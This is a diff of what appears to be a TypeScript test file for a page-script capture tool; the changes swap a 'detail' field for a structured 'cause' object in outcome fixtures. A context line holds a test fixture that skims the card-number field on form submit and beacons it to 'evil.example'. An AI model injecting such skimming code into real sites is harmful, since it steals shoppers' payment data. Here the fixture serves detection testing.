@@ -10,9 +10,16 @@ const script = (url: string | null, text: string, given: Partial<CapturedScript>
 const visit = (scripts: CapturedScript[], capture: Partial<Capture> = {}): Visit => ({ capture: { scripts, ...capture }, bodies })
 const unread = (of: Visit): Visit => ({ ...of, forgets: true })
 const partial = (code: 'timeout' | 'dialog-held'): Partial<Capture> => ({
-  outcome: { status: 'partial', code, detail: '', issues: [{ code, detail: '', frameId: null, atMs: 1 }] },
+  outcome: {
+    status: 'partial',
+    code,
+    cause: { code: 'words', values: { text: '' } },
+    issues: [{ code, cause: { code: 'words', values: { text: '' } }, frameId: null, atMs: 1 }],
+  },
 })
-const failed: Visit = { capture: { outcome: { status: 'failed', code: 'bot-wall', detail: '', issues: [] } } }
+const failed: Visit = {
+  capture: { outcome: { status: 'failed', code: 'bot-wall', cause: { code: 'words', values: { text: '' } }, issues: [] } },
+}
 
 const sum = 'function total(items) { return items.reduce(function (a, b) { return a + b.price }, 0) } window.total = total'
 const steals = `${sum}; document.addEventListener('submit', function () { navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value) })`
